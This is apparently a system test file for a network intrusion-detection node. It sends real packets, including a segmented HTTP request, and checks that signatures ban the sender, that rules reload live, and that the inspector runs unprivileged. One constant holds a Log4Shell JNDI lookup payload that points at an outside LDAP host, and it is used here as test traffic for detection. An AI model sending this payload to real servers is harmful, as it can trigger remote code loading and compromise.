"""Inspection end to end: real packets, the kernel program, the sample ring, the cell without rights, a proven ban."""

import sys
import tempfile
from pathlib import Path

import pytest

from tests.support.service import a_node

pytestmark = [pytest.mark.system, pytest.mark.kernel]

#: Sends its argument over TCP in pieces of seven bytes, each in a segment of its own.
PIECEMEAL = """
import socket, sys, time
peer = socket.create_connection((sys.argv[1], 80), 5, (sys.argv[3], 0))
peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
data = sys.argv[2].encode()
for at in range(0, len(data), 7):
    peer.send(data[at:at + 7])
    time.sleep(0.005)
time.sleep(0.2)
"""
ATTACK = "GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: node\r\n\r\n"
HARMLESS = "GET /docs/jndi.html HTTP/1.1\r\nHost: node\r\n\r\n"
#: Addresses behind the attacker's wire: the attacker's own is the node's gateway, which policy never blocks.
FIRST, SECOND = "10.66.0.7", "10.66.0.8"


@pytest.fixture(scope="module")
def folder():
    """Where the unprivileged cell may read, which the folders of pytest are not."""
    with tempfile.TemporaryDirectory(prefix="rules") as name:
        Path(name).chmod(0o755)
        yield Path(name)


@pytest.fixture(scope="module")
def node(folder):
    with a_node({"TEGUMENTAR_MACROPHAGE__RULES": str(folder)}) as node:
        node.until(lambda: node.ask("rules.list")["signatures"], 15)
        yield node


def say(node, words, source):
    """The attacker connects from this address and says the words, until the node stops listening."""
    attacker = node.net.attacker
    attacker.namespace.run("ip", "addr", "replace", f"{source}/32", "dev", attacker.interface)
    attacker.namespace.run(sys.executable, "-c", PIECEMEAL, node.net.node.address(4), words, source, check=False)


def test_a_signature_split_over_segments_bans_its_sender_and_why_names_it(node):
    innocent = node.net.innocent

    innocent.namespace.run(sys.executable, "-c", PIECEMEAL, node.net.node.address(4), HARMLESS, innocent.address(4))
    say(node, ATTACK, FIRST)
    node.until(lambda: node.is_proven(FIRST), 5)

    assert list(node.blocks()) == [FIRST]
    assert "log4shell-lookup" in node.blocks()[FIRST]["reason"]
    assert "jndi:ldap" in str(node.ask("why", address=FIRST))
    found = {row["name"]: row["found"] for row in node.ask("rules.list")["signatures"] if row["found"]}
    assert found == {"log4shell-lookup": 1}


def test_the_cell_reads_as_nobody_and_takes_up_a_new_rule_without_a_restart(node, folder):
    before = node.cells()["macrophage"]
    (folder / "local.rules").write_text(
        'drop tcp any any -> any 80 (msg:"the word is out"; flow:to_server; content:"xyzzy"; sid:1000001;)\n'
        "alert tcp any any -> any any (luajit:x.lua; sid:1000002;)\n"
    )

    answer = node.ask("rules.reload")
    say(node, "say xyzzy now", SECOND)
    node.until(lambda: node.is_proven(SECOND), 5)

    assert answer["rules"] == 1
    assert [problem["name"] for problem in answer["problems"]] == ["line 2, sid 1000002"]
    assert "the word is out" in node.blocks()[SECOND]["reason"]
    after = node.cells()["macrophage"]
    assert after["pid"] == before["pid"]
    status = Path(f"/proc/{after['pid']}/status").read_text()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    assert int(fields["CapEff"], 16) == 0
    assert fields["Uid"].split()[1] != "0"
